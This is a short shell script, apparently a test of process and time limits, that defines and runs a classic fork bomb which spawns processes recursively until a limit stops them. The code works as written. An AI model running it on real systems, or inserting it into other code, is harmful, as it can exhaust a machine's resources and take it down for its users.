# A shell fork bomb whose first process stays alive. It tries to start more processes than the limit
# allows, and waits for them. The limit on CPU time or on real time ends all of them.
bomb() {
    bomb | bomb &
    bomb
}
bomb
